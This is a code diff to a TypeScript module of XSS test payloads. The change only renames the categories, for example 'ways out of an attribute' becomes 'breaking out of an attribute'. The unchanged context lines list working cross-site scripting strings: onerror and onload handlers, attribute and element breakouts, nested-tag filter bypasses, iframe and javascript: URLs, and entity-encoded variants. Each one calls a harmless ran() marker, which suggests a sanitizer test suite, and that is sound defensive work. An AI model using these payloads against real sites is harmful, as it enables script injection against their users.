@@ -51,7 +51,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<script>`${ran()}`</script>',
     '<script>window.name="x";ran()</script>',
   ],
-  'more events of elements': [
+  'more event handlers': [
     '<img src=/icon.svg onload=ran()>',
     '<img srcset=x onerror=ran()>',
     '<input type=image src=x onerror=ran()>',
@@ -88,7 +88,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<scr<script>ipt>ran()</scr</script>ipt>',
     '<<script>ran();//<</script>',
   ],
-  'events of elements': [
+  'event handlers': [
     '<img src=x onerror=ran()>',
     '<img/src=x/onerror=ran()>',
     '<IMG SRC=x ONERROR=ran()>',
@@ -116,7 +116,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<marquee onstart=ran()>x</marquee>',
     '<x oncontentvisibilityautostatechange=ran() style=display:block;content-visibility:auto>',
   ],
-  'ways out of an attribute': [
+  'breaking out of an attribute': [
     '"><script>ran()</script>',
     "'><script>ran()</script>",
     '" autofocus tabindex=1 onfocus="ran()',
@@ -130,7 +130,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '&quot;><img src=x onerror=ran()>',
     '\\"><img src=x onerror=ran()>',
   ],
-  'ways out of an element': [
+  'breaking out of an element': [
     '</title><script>ran()</script>',
     '</style><script>ran()</script>',
     '</script><script>ran()</script>',
@@ -146,13 +146,13 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<?xml version="1.0"?><img src=x onerror=ran()>',
     '<plaintext>',
   ],
-  'ways out of data in a script': [
+  'breaking out of data in a script': [
     '</script><svg onload=ran()>',
     '"};ran();//',
     '"}</script><script>ran()//',
     '","@type":"Thing","name":"',
   ],
-  'pictures and formulas': [
+  'images and formulas': [
     '<svg onload=ran()>',
     '<svg/onload=ran()>',
     '<svg><script>ran()</script></svg>',
@@ -177,7 +177,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<title><b title="</title><img src=x onerror=ran()>">',
     '<table><td><svg><desc><td></desc></svg><img src=x onerror=ran()>',
   ],
-  'pages within pages, and away from them': [
+  'frames and navigation': [
     '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
     '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
     '<iframe src="javascript:parent.ran()"></iframe>',
@@ -240,7 +240,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     "https://example.com/'><img/src=x/onerror=ran()>",
     'data:text/html,<script>ran()</script>',
   ],
-  'codes and characters': [
+  'encodings and characters': [
     '&lt;script&gt;ran()&lt;/script&gt;',
     '&#60;img src=x onerror=ran()&#62;',
     '&#x3c;svg onload=ran()&#x3e;',
